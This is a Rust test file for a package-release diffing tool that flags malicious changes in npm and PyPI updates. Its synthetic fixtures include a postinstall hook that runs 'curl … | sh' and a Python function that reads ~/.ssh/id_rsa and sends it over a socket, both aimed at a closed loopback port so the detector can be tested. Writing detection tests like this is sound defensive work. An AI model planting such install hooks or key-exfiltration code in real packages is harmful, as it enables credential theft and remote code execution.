//! The diff over synthetic releases built in memory. The "payload" is only ever parsed; it
//! targets a closed loopback port.

use super::*;
use cerebro_archive::{ArchiveKind, SourceFile};

fn package(ecosystem: Ecosystem, name: &str, version: &str, files: &[(&str, &str)]) -> Package {
    let mut files: Vec<SourceFile> = files
        .iter()
        .map(|(path, body)| SourceFile {
            path: (*path).to_owned(),
            bytes: body.as_bytes().to_vec(),
        })
        .collect();
    files.sort_by(|a, b| a.path.cmp(&b.path));
    Package {
        origin: format!("{name}-{version}").into(),
        ecosystem,
        name: name.to_owned(),
        version: version.to_owned(),
        kind: ArchiveKind::Tar,
        files,
        anomalies: Vec::new(),
    }
}

fn npm_thresholds(detector: &Detector) -> Thresholds {
    Thresholds::for_model(detector.thresholds().npm)
}

fn pypi_thresholds(detector: &Detector) -> Thresholds {
    Thresholds::for_model(detector.thresholds().pypi)
}

fn release(package: Package) -> Release {
    Release::new(package, &ScanOptions::default())
}

fn manifest(version: &str, extra: &str) -> String {
    format!(r#"{{"name": "tiny-lib", "version": "{version}", "main": "index.js"{extra}}}"#)
}

const INDEX_JS: &str = "'use strict';
const util = require('./lib/util');
const format = require('./lib/format');
module.exports = { pad: util.pad, readConfig: util.readConfig, format: format.format };
";

const FORMAT_JS: &str = "'use strict';
function format(template, values) {
  return template.replace(/\\{(\\w+)\\}/g, (_, k) => String(values[k]));
}
module.exports = { format };
";

const UTIL_JS: &str = include_str!("../../../../tests/fixtures/tiny-lib/util.js");

/// The same library with lines moved, a comment, a new pure helper: an ordinary update.
const UTIL_JS_UPDATED: &str = "'use strict';
// Helpers for tiny-lib.
const fs = require('fs');
const path = require('path');

/** Pads on the left. */
function pad(s, n, fill = ' ') {
  return String(s).padStart(n, fill);
}

function padRight(s, n) {
  return String(s).padEnd(n);
}

function readConfig(dir) {
  const file = path.join(dir, 'config.json');
  const text = fs.readFileSync(file, 'utf8');
  return JSON.parse(text);
}

module.exports = { pad, padRight, readConfig };
";

/// `readConfig` now also reads the user's npm token and posts it (to a closed loopback port).
const UTIL_JS_COMPROMISED: &str =
    include_str!("../../../../tests/fixtures/tiny-lib/util-compromised.js");

fn npm_release(version: &str, util: &str, manifest_extra: &str, more: &[(&str, &str)]) -> Release {
    let manifest = manifest(version, manifest_extra);
    let mut files = vec![
        ("package.json", manifest.as_str()),
        ("index.js", INDEX_JS),
        ("lib/util.js", util),
        ("lib/format.js", FORMAT_JS),
    ];
    files.extend_from_slice(more);
    release(package(Ecosystem::Npm, "tiny-lib", version, &files))
}

#[test]
fn bumps_by_leading_numbers() {
    assert_eq!(bump("1.0.0", "1.0.1"), Bump::Patch);
    assert_eq!(bump("1.0.9", "1.1.0"), Bump::Minor);
    assert_eq!(bump("1.9", "2.0"), Bump::Major);
    assert_eq!(bump("v2.3.1", "2.3.2"), Bump::Patch);
    assert_eq!(bump("2.0.0rc1", "2.0.0"), Bump::Other);
    assert_eq!(bump("2.31.0", "2.32.0.post1"), Bump::Minor);
    assert_eq!(bump("latest", "1.0.0"), Bump::Other);
}

#[test]
fn an_ordinary_update_changes_no_behaviour() {
    let old = npm_release("1.0.0", UTIL_JS, "", &[]);
    let new = npm_release("1.0.1", UTIL_JS_UPDATED, "", &[]);
    let mut changes = compare(&old, &new);
    assert!(changes.is_empty(), "{changes:#?}");
    assert_eq!(
        (changes.from.as_str(), changes.to.as_str()),
        ("1.0.0", "1.0.1")
    );
    assert_eq!(changes.bump, Bump::Patch);
    let detector = Detector::embedded().unwrap();
    judge(
        &mut changes,
        &old,
        &new,
        &detector,
        &npm_thresholds(&detector),
    )
    .unwrap();
    assert_eq!(changes.verdict, Verdict::Benign);
    assert!(changes.reasons.is_empty());
}

#[test]
fn a_payload_in_one_function_is_the_changed_unit_and_judged_malicious() {
    let old = npm_release("1.0.0", UTIL_JS, "", &[]);
    let new = npm_release("1.0.1", UTIL_JS_COMPROMISED, "", &[]);
    let mut changes = compare(&old, &new);
    let files: Vec<&str> = changes.units.iter().map(|u| u.file.as_str()).collect();
    assert_eq!(files, ["lib/util.js"], "{changes:#?}");
    let unit = &changes.units[0];
    assert_eq!(unit.status, UnitStatus::Changed);
    // The first added telling event is in `readConfig`, not at the top of the file.
    assert!(unit.line >= 10 && unit.line <= 16, "line {}", unit.line);
    for f in [Feature::R5, Feature::D2] {
        assert!(
            unit.features.contains(&f),
            "{f:?} not in {:?}",
            unit.features
        );
    }
    assert!(
        changes
            .destinations
            .iter()
            .any(|d| d.detail.contains("127.0.0.1")),
        "{:?}",
        changes.destinations
    );
    assert!(changes.calls.iter().any(|c| c.feature == Feature::R5));
    // Without a model nothing is malicious yet: that is the detector's to say.
    assert_eq!(changes.verdict, Verdict::Benign);
    let detector = Detector::embedded().unwrap();
    judge(
        &mut changes,
        &old,
        &new,
        &detector,
        &npm_thresholds(&detector),
    )
    .unwrap();
    let unit = &changes.units[0];
    assert!(unit.malicious, "{unit:#?}");
    assert_eq!(changes.verdict, Verdict::Malicious);
    assert!(
        changes.reasons[0].starts_with("lib/util.js:"),
        "{:?}",
        changes.reasons
    );
    let text = summary(unit, 6);
    assert!(
        text.starts_with(&format!("lib/util.js:{} ", unit.line)),
        "{text}"
    );
    assert!(text.contains("reads"), "{text}");
}

#[test]
fn an_added_install_hook_and_the_file_it_runs_are_reported() {
    let old = npm_release("1.0.0", UTIL_JS, "", &[]);
    let setup = "'use strict';\nconst cp = require('child_process');\n\
                 cp.execSync('curl -s http://127.0.0.1:9/x | sh');\n";
    let new = npm_release(
        "1.0.1",
        UTIL_JS,
        r#", "scripts": {"postinstall": "node scripts/setup.js"}"#,
        &[("scripts/setup.js", setup)],
    );
    let mut changes = compare(&old, &new);
    assert_eq!(changes.hooks.len(), 1, "{changes:#?}");
    let hook = &changes.hooks[0];
    assert_eq!(hook.name, "postinstall");
    assert_eq!(hook.command, "node scripts/setup.js");
    assert_eq!(hook.runs, ["scripts/setup.js"]);
    assert!(hook.old_command.is_none());
    let setup_unit = changes
        .units
        .iter()
        .find(|u| u.file == "scripts/setup.js")
        .expect("the hook's file is a changed unit");
    assert_eq!(setup_unit.status, UnitStatus::Added);
    assert_eq!(setup_unit.added[0].phase, Phase::Install);
    // A new hook alone is worth a look, not a block.
    assert_eq!(changes.verdict, Verdict::Suspicious);
    assert!(changes.reasons.iter().any(|r| r.contains("postinstall")));
    let detector = Detector::embedded().unwrap();
    judge(
        &mut changes,
        &old,
        &new,
        &detector,
        &npm_thresholds(&detector),
    )
    .unwrap();
    assert_eq!(changes.verdict, Verdict::Malicious, "{changes:#?}");
}

#[test]
fn a_changed_hook_command_is_reported_with_the_old_one() {
    let old = npm_release(
        "1.0.0",
        UTIL_JS,
        r#", "scripts": {"postinstall": "node scripts/a.js"}"#,
        &[("scripts/a.js", "'use strict';\nconsole.log('thanks');\n")],
    );
    let new = npm_release(
        "1.0.1",
        UTIL_JS,
        r#", "scripts": {"postinstall": "node scripts/b.js"}"#,
        &[("scripts/b.js", "'use strict';\nconsole.log('thanks');\n")],
    );
    let changes = compare(&old, &new);
    assert_eq!(changes.hooks.len(), 1);
    assert_eq!(
        changes.hooks[0].old_command.as_deref(),
        Some("node scripts/a.js")
    );
    // The same hook, unchanged, is no change.
    assert!(compare(&old, &old).hooks.is_empty());
}

#[test]
fn new_dependencies_count_in_patch_releases_and_new_bins_are_listed() {
    let old = npm_release(
        "1.0.0",
        UTIL_JS,
        r#", "dependencies": {"a": "^1.0.0"}"#,
        &[],
    );
    let patch = npm_release(
        "1.0.1",
        UTIL_JS,
        r#", "dependencies": {"a": "^1.0.1", "plain-crypto-js": "^4.2.1"}, "bin": {"tiny": "cli.js"}"#,
        &[],
    );
    let changes = compare(&old, &patch);
    let deps: Vec<(&str, &str)> = changes
        .dependencies
        .iter()
        .map(|d| (d.name.as_str(), d.spec.as_str()))
        .collect();
    // A new range of a dependency already there is no new dependency.
    assert_eq!(deps, [("plain-crypto-js", "^4.2.1")]);
    assert_eq!(
        changes.bins,
        [BinEntry {
            name: "tiny".into(),
            path: "cli.js".into()
        }]
    );
    assert_eq!(changes.verdict, Verdict::Suspicious);
    assert!(changes
        .reasons
        .iter()
        .any(|r| r.contains("plain-crypto-js")));
    // The same new dependency in a minor release is ordinary.
    let minor = npm_release(
        "1.1.0",
        UTIL_JS,
        r#", "dependencies": {"a": "^1.0.1", "plain-crypto-js": "^4.2.1"}"#,
        &[],
    );
    let changes = compare(&old, &minor);
    assert_eq!(changes.dependencies.len(), 1);
    assert_eq!(changes.verdict, Verdict::Benign);
}

#[test]
fn a_string_bin_is_named_after_the_package_without_its_scope() {
    let p = package(
        Ecosystem::Npm,
        "@acme/tool",
        "1.0.0",
        &[(
            "package.json",
            r#"{"name": "@acme/tool", "bin": "./cli.js"}"#,
        )],
    );
    assert_eq!(
        bins(&p),
        [BinEntry {
            name: "tool".into(),
            path: "./cli.js".into()
        }]
    );
}

const PY_INIT: &str = "from .core import fetch\n";
const PY_CORE: &str =
    "import json\n\n\ndef fetch(path):\n    with open(path) as f:\n        return json.load(f)\n";
const PY_CORE_COMPROMISED: &str = "import json\nimport os\nimport base64\nimport socket\n\n\n\
def fetch(path):\n    with open(path) as f:\n        data = json.load(f)\n    \
key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    \
s = socket.create_connection(('127.0.0.1', 9))\n    \
s.sendall(base64.b64encode(key.encode()))\n    return data\n";

fn py_release(version: &str, core: &str, requires: &[&str], more: &[(&str, &str)]) -> Release {
    let mut metadata = format!("Metadata-Version: 2.1\nName: tiny-py\nVersion: {version}\n");
    for r in requires {
        metadata.push_str(&format!("Requires-Dist: {r}\n"));
    }
    metadata.push_str("\nA tiny library.\nRequires-Dist: not-a-header\n");
    let mut files = vec![
        (
            "tiny_py-{v}.dist-info/METADATA".replace("{v}", version),
            metadata,
        ),
        ("tiny_py/__init__.py".to_owned(), PY_INIT.to_owned()),
        ("tiny_py/core.py".to_owned(), core.to_owned()),
    ];
    files.extend(more.iter().map(|(p, b)| ((*p).to_owned(), (*b).to_owned())));
    let refs: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, b)| (p.as_str(), b.as_str()))
        .collect();
    release(package(Ecosystem::Pypi, "tiny-py", version, &refs))
}

#[test]
fn pypi_requires_dist_and_pth_files() {
    let old = py_release("2.0.0", PY_CORE, &["requests (>=2)"], &[]);
    let new = py_release(
        "2.0.1",
        PY_CORE,
        &["Requests>=2.1", "Evil_Helper.Lib>=1; python_version>'3'"],
        &[("tiny_py_init.pth", "import tiny_py\n")],
    );
    let changes = compare(&old, &new);
    let deps: Vec<&str> = changes
        .dependencies
        .iter()
        .map(|d| d.name.as_str())
        .collect();
    assert_eq!(deps, ["evil-helper-lib"]);
    assert_eq!(changes.dependencies[0].field, "Requires-Dist");
    let hooks: Vec<&str> = changes.hooks.iter().map(|h| h.name.as_str()).collect();
    assert_eq!(hooks, ["tiny_py_init.pth"]);
    assert_eq!(changes.verdict, Verdict::Suspicious);
}

#[test]
fn pypi_payload_in_one_function_is_judged_malicious_and_an_update_is_not() {
    let old = py_release("2.0.0", PY_CORE, &[], &[]);
    let same = py_release("2.0.1", &format!("# 2.0.1\n{PY_CORE}"), &[], &[]);
    let detector = Detector::embedded().unwrap();
    let mut changes = compare(&old, &same);
    judge(
        &mut changes,
        &old,
        &same,
        &detector,
        &pypi_thresholds(&detector),
    )
    .unwrap();
    assert!(
        changes.is_empty() && changes.verdict == Verdict::Benign,
        "{changes:#?}"
    );

    let bad = py_release("2.0.1", PY_CORE_COMPROMISED, &[], &[]);
    let mut changes = compare(&old, &bad);
    judge(
        &mut changes,
        &old,
        &bad,
        &detector,
        &pypi_thresholds(&detector),
    )
    .unwrap();
    let unit = changes
        .units
        .iter()
        .find(|u| u.file == "tiny_py/core.py")
        .unwrap();
    assert!(unit.features.contains(&Feature::R5), "{unit:#?}");
    assert!(unit.malicious, "{unit:#?}");
    assert_eq!(changes.verdict, Verdict::Malicious);
}

#[test]
fn added_behaviour_counts_run_time_code_as_import_time() {
    use cerebro_features::Event;
    let placed = |phase, feature, line| Placed {
        phase,
        event: Event::new(feature, "lib/a.js", line, "", ""),
    };
    let events = [
        placed(Phase::Install, Feature::H1, 1),
        placed(Phase::Run, Feature::R5, 2),
        placed(Phase::Run, Feature::R5, 3),
        placed(Phase::Import, Feature::D2, 4),
    ];
    let refs: Vec<&Placed> = events.iter().collect();
    let got: Vec<&str> = added_tokens(&refs).iter().map(|t| t.as_str()).collect();
    assert_eq!(got, ["[INSTALL]", "H1", "[IMPORT]", "R5", "D2"]);
}

#[test]
fn the_same_release_changes_nothing() {
    let a = npm_release("1.0.0", UTIL_JS_COMPROMISED, "", &[]);
    let changes = compare(&a, &a);
    assert!(changes.is_empty() && changes.verdict == Verdict::Benign);
}

#[test]
fn test_paths_follow_the_test_runners_conventions() {
    for p in [
        "tests/test_tz.py",
        "pkg/tests/helpers.py",
        "testing/run.py",
        "src/__tests__/a.js",
        "test_util.py",
        "pkg/util_test.py",
        "conftest.py",
        "lib/a.test.js",
        "lib/a.spec.ts",
    ] {
        assert!(is_test_path(p), "{p}");
    }
    for p in [
        "pkg/util.py",
        "pkg/testament.py",
        "contest.py",
        "lib/latest.js",
        "attest/x.py",
        "pkg/tests.py",
    ] {
        assert!(!is_test_path(p), "{p}");
    }
}

#[test]
fn a_test_file_nothing_runs_at_install_or_import_is_never_the_malicious_change() {
    let old = py_release("2.0.0", PY_CORE, &[], &[]);
    let detector = Detector::embedded().unwrap();
    let judged = |new: &Release| {
        let mut changes = compare(&old, new);
        judge(
            &mut changes,
            &old,
            new,
            &detector,
            &pypi_thresholds(&detector),
        )
        .unwrap();
        changes
    };
    // The same payload as a new test module: listed and scored, not malicious.
    let tested = py_release(
        "2.0.1",
        PY_CORE,
        &[],
        &[("tests/test_core.py", PY_CORE_COMPROMISED)],
    );
    let changes = judged(&tested);
    let unit = changes
        .units
        .iter()
        .find(|u| u.file == "tests/test_core.py")
        .expect("the test file is listed");
    assert!(unit.test_only && !unit.malicious, "{unit:#?}");
    assert!(
        unit.score.unwrap() >= pypi_thresholds(&detector).suspicious,
        "the payload scores as it would anywhere: {unit:#?}"
    );
    assert_ne!(changes.verdict, Verdict::Malicious);
    // Under a tests/ folder but run at import time (a package `__init__`): malicious.
    let imported = py_release(
        "2.0.1",
        PY_CORE,
        &[],
        &[("tests/__init__.py", PY_CORE_COMPROMISED)],
    );
    let changes = judged(&imported);
    let unit = changes
        .units
        .iter()
        .find(|u| u.file == "tests/__init__.py")
        .unwrap();
    assert!(!unit.test_only && unit.malicious, "{unit:#?}");
    assert_eq!(changes.verdict, Verdict::Malicious);
    // The same new module outside a test folder: malicious.
    let plain = py_release(
        "2.0.1",
        PY_CORE,
        &[],
        &[("tiny_py/extra.py", PY_CORE_COMPROMISED)],
    );
    assert_eq!(judged(&plain).verdict, Verdict::Malicious);
}
